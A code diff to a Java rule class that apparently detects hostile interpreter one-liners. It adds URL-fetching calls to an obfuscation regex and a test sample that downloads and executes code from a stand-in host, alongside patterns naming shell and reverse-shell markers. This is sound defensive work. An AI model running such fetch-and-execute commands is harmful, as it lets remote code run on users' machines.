@@ -65,7 +65,7 @@ final class InterpreterRules {
       Pattern.compile("dup2|pty|/bin/(?:ba)?sh|subprocess|exec|spawn|\\bsh\\b");
   private static final Pattern HIDES =
       Pattern.compile(
-          "b64decode|base64\\.decode|decode64|atob\\s*\\(|base64_decode|unhexlify|fromhex|codecs\\.decode|zlib\\.decompress|marshal\\.loads|__import__|getattr\\s*\\(\\s*(?:os|__builtins__)|Buffer\\.from\\([^)]{0,4000}base64|pack\\s*\\(?\\s*['\"]H");
+          "urlopen\\s*\\(|requests\\.get|b64decode|base64\\.decode|decode64|atob\\s*\\(|base64_decode|unhexlify|fromhex|codecs\\.decode|zlib\\.decompress|marshal\\.loads|__import__|getattr\\s*\\(\\s*(?:os|__builtins__)|Buffer\\.from\\([^)]{0,4000}base64|pack\\s*\\(?\\s*['\"]H");
   private static final Pattern RUNS_TEXT =
       Pattern.compile("\\bexec\\b|\\beval\\b|\\bcompile\\b|new Function|Function\\s*\\(|getattr");
   private static final Pattern SECRETS =
@@ -141,9 +141,10 @@ final class InterpreterRules {
                                 && (RUNS_TEXT.matcher(code).find() || STARTS.matcher(code).find())))
             .matches(
                 "python3 -c 'import base64; exec(base64.b64decode(\"aWQ=\"))'",
-                "node -e 'eval(atob(\"aWQ=\"))'")
+                "node -e 'eval(atob(\"aWQ=\"))'",
+                "python3 -c 'exec(urlopen(\"http://x.example\").read())'")
             .passes("python3 -c 'import base64; print(base64.b64decode(\"aWQ=\"))'")
-            .because("Runs code that it decodes first, so that nobody reads it."),
+            .because("Runs code that it decodes or fetches first, so that nobody reads it."),
         rule("code-reads-secrets", HIGH, LANGUAGES)
             .when(code(SECRETS))
             .matches(
